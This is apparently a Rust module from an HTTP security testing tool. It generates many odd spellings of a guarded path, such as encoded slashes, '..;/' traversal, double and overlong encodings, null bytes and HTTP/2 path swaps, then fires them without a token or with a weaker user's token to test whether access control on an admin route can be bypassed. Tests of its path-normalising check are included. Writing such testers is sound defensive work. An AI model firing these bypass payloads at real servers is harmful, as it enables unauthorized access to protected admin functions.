//! Spellings of a path.

use super::http2::Stream;
use super::mint::{ALGORITHMS, Mint};
use super::{Case, Family, Goal, Shot, Site, wire};

const NO_TOKEN: Family =
    Family { name: "odd path, no token", through: "a server that reads it as the guarded path gets it" };
const WEAK: Family = Family {
    name: "odd path to an admin's route, weaker role",
    through: "a server that reads it as the admin's path gets it",
};

/// The admin's route of [`super::edges`].
const ADMIN: &str = "/api/admin/policy";

/// The guarded path in every spelling, without a token.
pub(super) fn without_credential(site: &Site) -> Vec<Case> {
    cases(site, &NO_TOKEN, &site.path, None)
}

/// The admin's route in every spelling, with the token of a user.
pub(super) fn with_weak_role(site: &Site, mint: &Mint) -> Vec<Case> {
    cases(site, &WEAK, ADMIN, Some(&mint.sound(&ALGORITHMS[0])))
}

fn cases(site: &Site, family: &'static Family, path: &str, token: Option<&str>) -> Vec<Case> {
    let mut cases = Vec::new();
    let mut spellings = spellings(path, &site.host);
    // Where nobody tells what arrives, a success is an attack only if everybody reads the guarded path. Two dots after
    // two slashes take away the segment before them or nothing at all.
    spellings.retain(|spelling| {
        let text = String::from_utf8_lossy(spelling);
        site.echo || (may_mean(&text, path) && !text.contains("//.."))
    });
    for spelling in spellings {
        let request = wire::request("GET", &spelling, &site.host).bearer(token).close();
        let stream = Stream::new("GET", "/", &site.host).replace(":path", &spelling).bearer(token);
        let name = String::from_utf8_lossy(&spelling).into_owned();
        let goal = Goal::Path(path.to_owned());
        cases.push(Case {
            family,
            name: name.clone(),
            shot: Shot::Raw(request.bytes()),
            goal: goal.clone(),
            code: None,
        });
        cases.push(Case { family, name: format!("{name} over HTTP/2"), shot: Shot::Http2(stream), goal, code: None });
    }
    cases
}

fn spellings(path: &str, host: &str) -> Vec<Vec<u8>> {
    let segments: Vec<&str> = path[1..].split('/').collect();
    let mut texts = vec![path.to_owned(), path.to_uppercase(), format!("{path}?x=/login")];
    // Something else in place of each slash, and of all.
    for slash in [
        "//",
        "///",
        "/./",
        "/x/../",
        "/%2e/",
        "/x/%2e%2e/",
        "/x/..;/",
        "/;/",
        ";/",
        ";x=y/",
        "%2f",
        "%2F",
        "%5c",
        "%5C",
        "\\",
        "/\\",
        "\\/",
        "%252f",
        "%c0%af",
        "%ef%bc%8f",
        "/%20/",
        "/%00/",
        "/%09/",
        "/\t/",
        "%2f/",
        "/%2f",
        "/.%2f",
        "/..%2fx/../",
        "%u002f",
        "/%0d%0a/",
        "\u{2215}",
        "/%23/",
        "/%3f/",
    ] {
        texts.push(format!("/{}", segments.join(slash)));
        texts.push(format!("{slash}{}", segments.join("/")));
        for place in 1..segments.len() {
            texts.push(format!("/{}{slash}{}", segments[..place].join("/"), segments[place..].join("/")));
        }
    }
    // Something behind each segment.
    for behind in [
        ";",
        ";x",
        ";jsessionid=1",
        "%20",
        "%00",
        "%09",
        "%0a",
        "%0d%0a",
        "%3b",
        "%23",
        "%3f",
        ".",
        "%2e",
        "~",
        "#",
        "#x",
        "%",
        "%zz",
        "%c2%a0",
    ] {
        for place in 1..=segments.len() {
            let rest = segments[place..].iter().map(|segment| format!("/{segment}")).collect::<String>();
            texts.push(format!("/{}{behind}{rest}", segments[..place].join("/")));
        }
    }
    for end in [
        "/",
        "//",
        "/.",
        "/./",
        "/x/..",
        "/..;/",
        "/;",
        "/%2e",
        "/%2e%2e/policy",
        "/x/%2e%2e",
        ".json",
        ".css",
        "/x.css",
        "?",
        "??",
        "%3fx.css",
        "&x",
        "*",
    ] {
        texts.push(format!("{path}{end}"));
    }
    // Each letter escaped, once and twice, and in the other case.
    for (place, letter) in path.char_indices().filter(|(_, letter)| letter.is_ascii_alphabetic()) {
        let (before, behind) = (&path[..place], &path[place + 1..]);
        texts.push(format!("{before}%{:02x}{behind}", letter as u8));
        texts.push(format!("{before}%25{:02x}{behind}", letter as u8));
        texts.push(format!("{before}{}{behind}", letter.to_ascii_uppercase()));
    }
    // From another path into this one.
    for start in ["/assets", "/login", "/api/me", "/x"] {
        for up in [
            "/..",
            "/%2e%2e",
            "/.%2e",
            "/%2e.",
            "/..;",
            "/..;x",
            "/..%00",
            "/%252e%252e",
            "/..%2f.",
            "%2f..",
            "%5c..",
            "\\..",
            "/x/..//..",
            "/.%00.",
            "/%c0%ae%c0%ae",
            "/..%09",
            "/ ..",
            "/..%5c.",
            "/...",
            "/%2e%2e;",
            "/%u002e%u002e",
            "/.;/..",
        ] {
            let depth = start.matches('/').count();
            texts.push(format!("{start}{}{path}", up.repeat(depth)));
        }
    }
    let other = [
        format!("http://{host}{path}"),
        format!("HTTP://{host}{path}"),
        format!("https://evil.example{path}"),
        format!("http://a:b@{host}{path}"),
        format!("http:{path}"),
        format!("//{host}{path}"),
        format!("///{host}{path}"),
        format!("file://{path}"),
        format!("http://{host}//{path}"),
        format!("http://{host}/assets/..{path}"),
        format!("http://{host};{path}"),
        format!("{host}{path}"),
        path[1..].to_owned(),
        format!(".{path}"),
        format!("..{path}"),
        format!("*{path}"),
        "*".to_owned(),
        format!("\\{}", &path[1..]),
        format!(" {path}"),
        format!("\t{path}"),
        format!("?{path}"),
        format!("#{path}"),
        format!("/?/..{path}"),
        format!("/#/..{path}"),
        format!("/assets/?/../..{path}"),
        format!("/assets/#/../..{path}"),
    ];
    texts.extend(other);
    let mut spellings: Vec<Vec<u8>> = texts.into_iter().map(String::into_bytes).collect();
    for byte in [0x00, 0x01, 0x0b, 0x7f, 0x80, 0xa0, 0xff] {
        spellings.push([path.as_bytes(), &[byte]].concat());
        spellings.push([b"/", &[byte][..], &path.as_bytes()[1..]].concat());
    }
    spellings.sort();
    spellings.dedup();
    spellings
}

/// Whether some server reads this target as this path: escapes decoded as often as there are
/// any, backslashes as slashes, parameters left out, dots followed, capitals made small.
pub(super) fn may_mean(target: &str, path: &str) -> bool {
    let target =
        target.split_once("://").map_or(target, |(_, rest)| rest.find('/').map_or("/", |slash| &rest[slash..]));
    // What follows the first plain question mark is a query to everybody.
    let mut text = target.split('?').next().unwrap_or_default().to_lowercase();
    for _ in 0..3 {
        text = unescaped(&text);
    }
    let text = text.replace('\\', "/").replace(['\0', '\t', ' ', '\r', '\n'], "");
    let text = text.split(['?', '#']).next().unwrap_or_default();
    let mut segments: Vec<&str> = Vec::new();
    for segment in text.split('/').map(|segment| segment.split(';').next().unwrap_or_default()) {
        match segment {
            "" | "." => {}
            ".." => drop(segments.pop()),
            other => segments.push(other),
        }
    }
    format!("/{}", segments.join("/")).starts_with(path)
}

fn unescaped(text: &str) -> String {
    let mut bytes = Vec::new();
    let mut rest = text.as_bytes();
    while let Some((first, behind)) = rest.split_first() {
        let digits = behind.get(..2).and_then(|digits| std::str::from_utf8(digits).ok());
        match digits.filter(|_| *first == b'%').and_then(|digits| u8::from_str_radix(digits, 16).ok()) {
            Some(byte) => {
                bytes.push(byte);
                rest = &behind[2..];
            }
            None => {
                bytes.push(*first);
                rest = behind;
            }
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_reading_counts() {
        for target in [
            "/api/admin/policy",
            "//api//admin/policy",
            "/api%2fadmin/policy",
            "/API/%61dmin/policy",
            "/assets/..;/api/admin/policy",
            "/api\\admin\\policy",
            "/x/%252e%252e/api/admin/policy",
            "http://h/api/admin/policy?x",
            "/api;x/admin/policy/y",
            "/api/admin/policy%3fx",
        ] {
            assert!(may_mean(target, ADMIN), "{target}");
        }
        for target in
            ["/", "/api/me", "/?x=/api/admin/policy", "/assets/api/admin/policy", "/login?/../api/admin/policy"]
        {
            assert!(!may_mean(target, ADMIN), "{target}");
        }
    }
}
